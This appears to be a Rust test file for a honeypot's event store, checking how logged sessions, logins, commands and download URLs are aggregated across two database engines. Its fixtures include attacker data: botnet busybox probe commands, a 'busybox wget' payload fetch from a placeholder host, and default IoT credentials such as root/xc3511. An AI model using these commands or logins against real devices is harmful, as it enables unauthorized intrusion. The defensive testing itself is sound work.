//! The decoy's records: stored as given, read back per session in order, download URLs
//! grouped with their sessions and sources — the same on both engines.

use yamori_store::decoy::{DecoyHost, DecoyUrl, NewDecoyEvent};

use crate::backends::same_on_each;

pub(crate) fn event(
    session: &str,
    eventid: &str,
    src: &str,
    ts: &str,
    url: Option<&str>,
) -> NewDecoyEvent {
    let record = serde_json::json!({
        "eventid": eventid, "session": session, "src_ip": src, "timestamp": ts, "url": url,
    });
    NewDecoyEvent {
        session: session.into(),
        eventid: eventid.into(),
        src_ip: src.into(),
        timestamp: ts.into(),
        url: url.map(str::to_string),
        record: record.to_string(),
    }
}

#[test]
fn decoy_records_and_download_urls_agree_on_both_engines() {
    let got = same_on_each(|s| {
        assert_eq!(s.decoy_add_events(&[]).expect("nothing to add"), 0);
        let a = [
            event(
                "aaaaaaaaaaaa",
                "cowrie.session.connect",
                "192.0.2.1",
                "2026-12-01T00:00:00.000001Z",
                None,
            ),
            event(
                "aaaaaaaaaaaa",
                "cowrie.session.file_download",
                "192.0.2.1",
                "2026-12-01T00:00:01.000000Z",
                Some("http://198.51.100.7/x.sh"),
            ),
            event(
                "aaaaaaaaaaaa",
                "cowrie.session.file_download",
                "192.0.2.1",
                "2026-12-01T00:00:02.000000Z",
                Some("http://198.51.100.7/x.sh"),
            ),
        ];
        let b = [
            event(
                "bbbbbbbbbbbb",
                "cowrie.session.file_download",
                "192.0.2.9",
                "2026-12-02T00:00:00.000000Z",
                Some("http://198.51.100.7/x.sh"),
            ),
            // Upper case sorts before lower case in byte order, whatever the collation.
            event(
                "bbbbbbbbbbbb",
                "cowrie.session.file_download",
                "192.0.2.9",
                "2026-11-30T00:00:00.000000Z",
                Some("Tftp://203.0.113.9/m"),
            ),
        ];
        assert_eq!(s.decoy_add_events(&a).expect("add"), 3);
        assert_eq!(s.decoy_add_events(&b).expect("add"), 2);
        assert_eq!(s.decoy_count().expect("count"), 5);
        let session = s.decoy_session("aaaaaaaaaaaa").expect("session");
        let want: Vec<String> = a.iter().map(|e| e.record.clone()).collect();
        assert_eq!(session, want, "records come back as given, in order");
        assert!(s.decoy_session("none").expect("session").is_empty());
        s.decoy_urls().expect("urls")
    });
    assert_eq!(
        got,
        [
            DecoyUrl {
                url: "Tftp://203.0.113.9/m".into(),
                sessions: 1,
                sources: vec!["192.0.2.9".into()],
                first_seen: "2026-11-30T00:00:00.000000Z".into(),
                last_seen: "2026-11-30T00:00:00.000000Z".into(),
            },
            DecoyUrl {
                url: "http://198.51.100.7/x.sh".into(),
                sessions: 2,
                sources: vec!["192.0.2.1".into(), "192.0.2.9".into()],
                first_seen: "2026-12-01T00:00:01.000000Z".into(),
                last_seen: "2026-12-02T00:00:00.000000Z".into(),
            },
        ]
    );
}

fn login(session: &str, src: &str, ts: &str, user: &str, password: &str) -> NewDecoyEvent {
    let mut e = event(session, "cowrie.login.failed", src, ts, None);
    e.record = serde_json::json!({
        "eventid": "cowrie.login.failed", "session": session, "src_ip": src, "timestamp": ts,
        "username": user, "password": password,
    })
    .to_string();
    e
}

#[test]
fn decoy_hosts_gather_sessions_logins_and_urls_in_a_window() {
    let got = same_on_each(|s| {
        let t = |n: u32| format!("2026-12-01T00:00:{n:02}.000000Z");
        let mut events = vec![
            // Before the window: not counted.
            login(
                "old000000000",
                "192.0.2.1",
                "2026-11-01T00:00:00.000000Z",
                "old",
                "x",
            ),
            login("aaaaaaaaaaaa", "192.0.2.1", &t(1), "root", "xc3511"),
            login("aaaaaaaaaaaa", "192.0.2.1", &t(2), "root", "xc3511"),
            event(
                "aaaaaaaaaaaa",
                "cowrie.session.file_download",
                "192.0.2.1",
                &t(3),
                Some("http://198.51.100.7/x.sh"),
            ),
            event(
                "bbbbbbbbbbbb",
                "cowrie.session.connect",
                "192.0.2.1",
                &t(9),
                None,
            ),
            event(
                "cccccccccccc",
                "cowrie.session.connect",
                "192.0.2.10",
                &t(5),
                None,
            ),
        ];
        // A bot that tries many pairs: only the first three are kept.
        for n in 0..20 {
            events.push(login(
                "cccccccccccc",
                "192.0.2.10",
                &t(6),
                "admin",
                &format!("p{n}"),
            ));
        }
        s.decoy_add_events(&events).expect("add");
        s.decoy_hosts("2026-12-01T00:00:00.000000Z", 3)
            .expect("hosts")
    });
    assert_eq!(
        got,
        [
            DecoyHost {
                src_ip: "192.0.2.1".into(),
                first_seen: "2026-12-01T00:00:01.000000Z".into(),
                last_seen: "2026-12-01T00:00:09.000000Z".into(),
                sessions: 2,
                credentials: vec![("root".into(), "xc3511".into())],
                urls: vec!["http://198.51.100.7/x.sh".into()],
            },
            DecoyHost {
                src_ip: "192.0.2.10".into(),
                first_seen: "2026-12-01T00:00:05.000000Z".into(),
                last_seen: "2026-12-01T00:00:06.000000Z".into(),
                sessions: 1,
                credentials: ["p0", "p1", "p2"]
                    .iter()
                    .map(|p| ("admin".to_string(), p.to_string()))
                    .collect(),
                urls: vec![],
            },
        ]
    );
}

/// A record with fields beside the common ones, as the decoy writes logins and commands.
fn record_with(
    session: &str,
    eventid: &str,
    src: &str,
    ts: &str,
    fields: serde_json::Value,
) -> NewDecoyEvent {
    let mut e = event(session, eventid, src, ts, None);
    let mut record: serde_json::Value = serde_json::from_str(&e.record).expect("json");
    record["protocol"] = "telnet".into();
    if let (Some(r), Some(f)) = (record.as_object_mut(), fields.as_object()) {
        r.extend(f.clone());
    }
    e.record = record.to_string();
    e
}

#[test]
fn decoy_activity_counts_ranks_and_lists_the_same_on_both_engines() {
    use serde_json::json;
    let got = same_on_each(|s| {
        let login = |sess: &str, src: &str, ts: &str, ok: bool, u: &str, p: &str| {
            let id = if ok {
                "cowrie.login.success"
            } else {
                "cowrie.login.failed"
            };
            record_with(sess, id, src, ts, json!({"username": u, "password": p}))
        };
        let cmd = |sess: &str, src: &str, ts: &str, line: &str| {
            record_with(
                sess,
                "cowrie.command.input",
                src,
                ts,
                json!({"input": line}),
            )
        };
        let events = vec![
            // before the window: counted nowhere
            record_with(
                "000000000000",
                "cowrie.session.connect",
                "192.0.2.50",
                "2026-11-01T00:00:00.000000Z",
                json!({}),
            ),
            login(
                "000000000000",
                "192.0.2.50",
                "2026-11-01T00:00:01.000000Z",
                true,
                "old",
                "old",
            ),
            // a session that started before the window: its command in the window counts
            // for its source and in the totals, but it is no session of the window
            record_with(
                "eeeeeeeeeeee",
                "cowrie.session.connect",
                "192.0.2.9",
                "2026-11-30T23:59:59.999999Z",
                json!({}),
            ),
            cmd(
                "eeeeeeeeeeee",
                "192.0.2.9",
                "2026-12-01T00:00:00.000000Z",
                "enable",
            ),
            record_with(
                "eeeeeeeeeeee",
                "cowrie.session.closed",
                "192.0.2.9",
                "2026-12-01T00:00:01.000000Z",
                json!({"duration_ms": 1001}),
            ),
            // session a: a failure, then root/xc3511, two commands, a download, closed
            record_with(
                "aaaaaaaaaaaa",
                "cowrie.session.connect",
                "192.0.2.1",
                "2026-12-01T10:00:00.000000Z",
                json!({}),
            ),
            login(
                "aaaaaaaaaaaa",
                "192.0.2.1",
                "2026-12-01T10:00:01.000000Z",
                false,
                "root",
                "root1",
            ),
            login(
                "aaaaaaaaaaaa",
                "192.0.2.1",
                "2026-12-01T10:00:02.000000Z",
                true,
                "root",
                "xc3511",
            ),
            cmd(
                "aaaaaaaaaaaa",
                "192.0.2.1",
                "2026-12-01T10:00:03.000000Z",
                "/bin/busybox ECCHI",
            ),
            cmd(
                "aaaaaaaaaaaa",
                "192.0.2.1",
                "2026-12-01T10:00:04.000000Z",
                "/bin/busybox ECCHI",
            ),
            event(
                "aaaaaaaaaaaa",
                "cowrie.session.file_download",
                "192.0.2.1",
                "2026-12-01T10:00:05.000000Z",
                Some("http://198.51.100.7/x.sh"),
            ),
            record_with(
                "aaaaaaaaaaaa",
                "cowrie.session.closed",
                "192.0.2.1",
                "2026-12-01T10:00:06.000000Z",
                json!({"duration_ms": 6000}),
            ),
            // session b, another source, the next hour: root/xc3511 again, still open
            record_with(
                "bbbbbbbbbbbb",
                "cowrie.session.connect",
                "192.0.2.9",
                "2026-12-01T11:30:00.000000Z",
                json!({}),
            ),
            login(
                "bbbbbbbbbbbb",
                "192.0.2.9",
                "2026-12-01T11:30:01.000000Z",
                true,
                "root",
                "xc3511",
            ),
            cmd(
                "bbbbbbbbbbbb",
                "192.0.2.9",
                "2026-12-01T11:30:02.000000Z",
                "/bin/busybox ECCHI",
            ),
            cmd(
                "bbbbbbbbbbbb",
                "192.0.2.9",
                "2026-12-01T11:30:03.000000Z",
                "enable",
            ),
            event(
                "bbbbbbbbbbbb",
                "cowrie.session.file_download",
                "192.0.2.9",
                "2026-12-01T11:30:04.000000Z",
                Some("http://198.51.100.7/x.sh"),
            ),
            // session c from 192.0.2.1 again, a record that is not JSON: counted by its columns
            record_with(
                "cccccccccccc",
                "cowrie.session.connect",
                "192.0.2.1",
                "2026-12-01T11:40:00.000000Z",
                json!({}),
            ),
            NewDecoyEvent {
                record: "not json".into(),
                ..event(
                    "cccccccccccc",
                    "cowrie.login.failed",
                    "192.0.2.1",
                    "2026-12-01T11:40:01.000000Z",
                    None,
                )
            },
        ];
        s.decoy_add_events(&events).expect("add");
        (
            s.decoy_activity("2026-12-01T00:00:00.000000Z", 10)
                .expect("activity"),
            s.decoy_activity("2026-12-01T00:00:00.000000Z", 1)
                .expect("top 1"),
        )
    });
    let (a, one) = got;
    assert_eq!((a.sessions, a.sources), (3, 2));
    assert_eq!(
        (a.logins_succeeded, a.logins_failed, a.commands, a.downloads),
        (2, 2, 5, 2),
        "the command of the session that started before the window counts"
    );
    let hours: Vec<(&str, u64, u64, u64)> = a
        .hours
        .iter()
        .map(|h| (h.hour.as_str(), h.sessions, h.logins, h.commands))
        .collect();
    assert_eq!(
        hours,
        vec![
            ("2026-12-01T00", 0, 0, 1),
            ("2026-12-01T10", 1, 2, 2),
            ("2026-12-01T11", 2, 2, 2)
        ]
    );
    let creds: Vec<(&str, &str, u64, u64)> = a
        .credentials
        .iter()
        .map(|c| {
            (
                c.username.as_str(),
                c.password.as_str(),
                c.attempts,
                c.succeeded,
            )
        })
        .collect();
    assert_eq!(
        creds,
        vec![("root", "xc3511", 2, 2), ("root", "root1", 1, 0)]
    );
    let cmds: Vec<(&str, u64, u64)> = a
        .commands_top
        .iter()
        .map(|c| (c.input.as_str(), c.count, c.sessions))
        .collect();
    assert_eq!(cmds, vec![("/bin/busybox ECCHI", 3, 2), ("enable", 2, 2)]);
    assert_eq!(a.urls.len(), 1);
    assert_eq!(
        (
            a.urls[0].url.as_str(),
            a.urls[0].sessions,
            a.urls[0].sources
        ),
        ("http://198.51.100.7/x.sh", 2, 2)
    );
    assert_eq!(a.urls[0].first_seen, "2026-12-01T10:00:05.000000Z");
    let attackers: Vec<(&str, u64, u64, u64, u64)> = a
        .attackers
        .iter()
        .map(|x| {
            (
                x.src_ip.as_str(),
                x.sessions,
                x.logins_succeeded,
                x.commands,
                x.downloads,
            )
        })
        .collect();
    assert_eq!(
        attackers,
        vec![("192.0.2.1", 2, 1, 2, 1), ("192.0.2.9", 1, 1, 3, 1)],
        "sessions are those that started in the window; commands all in it"
    );
    type Recent<'a> = (
        &'a str,
        &'a str,
        Option<&'a str>,
        Option<(&'a str, &'a str)>,
        u64,
    );
    let recent: Vec<Recent> = a
        .recent
        .iter()
        .map(|r| {
            (
                r.session.as_str(),
                r.protocol.as_str(),
                r.end.as_deref(),
                r.login.as_ref().map(|(u, p)| (u.as_str(), p.as_str())),
                r.commands,
            )
        })
        .collect();
    assert_eq!(
        recent,
        vec![
            ("cccccccccccc", "telnet", None, None, 0),
            ("bbbbbbbbbbbb", "telnet", None, Some(("root", "xc3511")), 2),
            (
                "aaaaaaaaaaaa",
                "telnet",
                Some("2026-12-01T10:00:06.000000Z"),
                Some(("root", "xc3511")),
                2
            ),
        ]
    );
    // `top` bounds every list, ties broken by byte order
    assert_eq!(one.credentials.len(), 1);
    assert_eq!(one.attackers[0].src_ip, "192.0.2.1");
    assert_eq!(one.recent.len(), 2);
}

#[test]
fn busybox_lines_are_listed_per_download_url_the_same_on_both_engines() {
    use serde_json::json;
    let got = same_on_each(|s| {
        let cmd = |sess: &str, line: &str| {
            record_with(
                sess,
                "cowrie.command.input",
                "192.0.2.1",
                "2026-12-01T10:00:00.000000Z",
                json!({"input": line}),
            )
        };
        let url = "http://198.51.100.7/x.sh";
        s.decoy_add_events(&[
            cmd("aaaaaaaaaaaa", "/bin/busybox ECCHI"),
            cmd("aaaaaaaaaaaa", "cd /tmp"),
            cmd("aaaaaaaaaaaa", "/bin/busybox ECCHI"),
            event(
                "aaaaaaaaaaaa",
                "cowrie.session.file_download",
                "192.0.2.1",
                "2026-12-01T10:00:01.000000Z",
                Some(url),
            ),
            cmd("bbbbbbbbbbbb", "/bin/busybox SORA"),
            cmd("bbbbbbbbbbbb", "busybox wget http://198.51.100.8/y"),
            event(
                "bbbbbbbbbbbb",
                "cowrie.session.file_download",
                "192.0.2.1",
                "2026-12-01T10:00:02.000000Z",
                Some(url),
            ),
            // a session with a probe but no download lists nothing
            cmd("cccccccccccc", "/bin/busybox MASUTA"),
            // a download from a session without busybox lines: no entry
            event(
                "dddddddddddd",
                "cowrie.session.file_download",
                "192.0.2.2",
                "2026-12-01T10:00:03.000000Z",
                Some("http://198.51.100.9/z"),
            ),
        ])
        .expect("add");
        (
            s.decoy_url_busybox_lines(64).expect("lines"),
            s.decoy_url_busybox_lines(1).expect("one"),
        )
    });
    let (all, one) = got;
    assert_eq!(all.len(), 1, "{all:?}");
    assert_eq!(
        all["http://198.51.100.7/x.sh"],
        [
            "/bin/busybox ECCHI",
            "/bin/busybox SORA",
            "busybox wget http://198.51.100.8/y"
        ]
    );
    assert_eq!(one["http://198.51.100.7/x.sh"], ["/bin/busybox ECCHI"]);
}
